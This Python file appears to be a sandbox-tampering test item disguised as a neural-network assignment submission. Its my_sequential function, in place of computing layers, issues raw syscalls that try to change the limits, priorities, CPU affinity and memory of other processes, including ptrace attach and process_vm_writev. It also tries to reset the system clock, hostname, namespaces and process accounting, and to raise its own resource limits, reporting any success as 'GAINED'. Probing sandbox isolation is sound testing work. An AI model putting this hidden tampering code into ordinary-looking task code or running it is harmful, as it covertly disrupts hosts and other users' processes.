"""Tampering: limits, priorities, processors and memory of other processes.

points: at most 30
extra: 0
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import ctypes
import os
import resource

LIBC = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
CALLS = {
    "prlimit64": (302, 261), "setpriority": (141, 140), "sched_setaffinity": (203, 122), "sched_setparam": (142, 118),
    "sched_setscheduler": (144, 119), "sched_setattr": (314, 274), "ioprio_set": (251, 30), "migrate_pages": (256, 238),
    "move_pages": (279, 239), "process_vm_writev": (311, 271), "process_madvise": (440, 440), "ptrace": (101, 117),
    "kcmp": (312, 272), "pidfd_open": (434, 434), "get_robust_list": (274, 100), "setpgid": (109, 154),
    "cachestat": (451, 451), "perf_event_open": (298, 241), "rt_sigtimedwait": (128, 137), "unshare": (272, 97),
    "setns": (308, 268), "quotactl": (179, 60), "syslog": (103, 116), "sethostname": (170, 161),
    "clock_settime": (227, 112), "settimeofday": (164, 170), "adjtimex": (159, 171), "clock_adjtime": (305, 266),
    "swapoff": (168, 225), "reboot": (169, 142), "acct": (163, 89), "keyctl": (250, 219), "add_key": (248, 217),
    "mlockall": (151, 230), "vhangup": (153, 58), "shmget": (29, 194), "msgget": (68, 186), "semget": (64, 190),
}
ME = os.getpid()


def call(name, *arguments):
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return LIBC.syscall(ctypes.c_long(CALLS[name][0 if X86 else 1]), *given)


def others():
    yield from (os.getppid(), 1, 2)
    try:
        yield from (int(name) for name in os.listdir("/proc") if name.isdigit())
    except OSError:
        pass
    yield from range(max(1, ME - 100), ME + 50)


def on_others():
    small = ctypes.create_string_buffer(bytes(16))
    mask = ctypes.create_string_buffer(b"\1" + bytes(127))
    attributes = ctypes.create_string_buffer((48).to_bytes(4, "little") + bytes(44))
    page = ctypes.create_string_buffer(4096)
    part = (ctypes.c_void_p * 2)(ctypes.addressof(page), 8)
    for pid in dict.fromkeys(others()):
        if pid in (0, ME):  # each is this process itself
            continue
        for resource_number in (0, 1, 7, 9):
            yield f"prlimit of {pid}", lambda: call("prlimit64", pid, resource_number, small, None)
            yield f"prlimit of {pid}, to look", lambda: call("prlimit64", pid, resource_number, None, small)
        yield f"priority of {pid}", lambda: call("setpriority", 0, pid, 19)
        yield f"processors of {pid}", lambda: call("sched_setaffinity", pid, 128, mask)
        yield f"scheduler of {pid}", lambda: call("sched_setscheduler", pid, 5, small)
        yield f"parameters of {pid}", lambda: call("sched_setparam", pid, small)
        yield f"attributes of {pid}", lambda: call("sched_setattr", pid, attributes, 0)
        yield f"disk priority of {pid}", lambda: call("ioprio_set", 1, pid, 3 << 13)
        yield f"pages of {pid}", lambda: call("migrate_pages", pid, 1, small, small)
        yield f"pages of {pid}", lambda: call("move_pages", pid, 0, None, None, None, 0)
        yield f"memory of {pid}", lambda: call("process_vm_writev", pid, part, 1, part, 1, 0)
        yield f"trace of {pid}", lambda: call("ptrace", 0x4206, pid, None, None)
        yield f"trace of {pid}", lambda: call("ptrace", 16, pid, None, None)
        yield f"group of {pid}", lambda: call("setpgid", pid, 0)
    for group in (0, os.getpgrp(), os.getuid()):
        for which in (1, 2):
            yield f"priority of all, {which} {group}", lambda: call("setpriority", which, group, 19)
            yield f"disk priority of all, {which} {group}", lambda: call("ioprio_set", which + 1, group, 3 << 13)


def on_the_machine():
    buffer = ctypes.create_string_buffer(256)
    yield "clock", lambda: call("clock_settime", 0, buffer)
    yield "time of day", lambda: call("settimeofday", buffer, None)
    yield "clock's pace", lambda: call("clock_adjtime", 0, buffer)
    yield "host name", lambda: call("sethostname", b"attack", 6)
    yield "namespace", lambda: call("unshare", 0x10000000)
    yield "namespaces", lambda: call("unshare", 0x10000000 | 0x00020000 | 0x20000000)
    yield "kernel's log", lambda: call("syslog", 5, None, 0)
    yield "events", lambda: call("perf_event_open", buffer, 0, -1, -1, 0) < 0
    yield "keys", lambda: call("add_key", b"user", b"attack", b"x", 1, -4) < 0
    yield "key ring", lambda: call("keyctl", 0, -3, 1) < 0
    yield "shared memory", lambda: call("shmget", 0x6174, 4096, 0o1666) < 0
    yield "queue", lambda: call("msgget", 0x6174, 0o1666) < 0
    yield "semaphores", lambda: call("semget", 0x6174, 1, 0o1666) < 0
    yield "accounting", lambda: call("acct", None)
    yield "terminal", lambda: call("vhangup")


def upwards():
    """More for ourselves than we were given."""
    for name in ("RLIMIT_NICE", "RLIMIT_RTPRIO", "RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_CPU",
                 "RLIMIT_FSIZE", "RLIMIT_CORE"):
        which = getattr(resource, name)
        _, hard = resource.getrlimit(which)
        if hard == resource.RLIM_INFINITY:
            if name not in ("RLIMIT_NICE", "RLIMIT_RTPRIO"):
                yield f"{name} has no limit", lambda: 0
            continue
        yield f"{name} above {hard}", lambda: resource.setrlimit(which, (hard + 1, hard + 1))
    yield "nicer than nice", lambda: os.nice(-5) and None
    real_time = os.sched_param(1) if hasattr(os, "sched_param") else None
    yield "real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, real_time)


def tell(name):
    raise RuntimeError("GAINED: " + name)


def attempt(every):
    for name, way in every:
        try:
            result = way()
        except (OSError, ValueError):
            continue
        if result in (0, None, False):
            tell(name)


def my_sequential(x, W1, b1, W2, b2, W3, b3):
    attempt(on_others())
    attempt(on_the_machine())
    attempt(upwards())
    return np.zeros(len(b3))


def my_dense_v(A_in, W, b, g):
    """We ourselves on one processor, as unimportant as can be, with hardly any limits left."""
    for way in (lambda: os.sched_setaffinity(0, {0}), lambda: os.nice(19),
                lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)),
                lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (3, 3)),
                lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0)),
                lambda: resource.setrlimit(resource.RLIMIT_STACK, (65536, 65536)),
                lambda: resource.setrlimit(resource.RLIMIT_DATA, (1 << 20, 1 << 20)),
                lambda: resource.setrlimit(resource.RLIMIT_AS, (1 << 20, 1 << 20))):
        try:
            way()
        except (OSError, ValueError):
            pass
    return np.zeros((len(A_in), W.shape[1]))
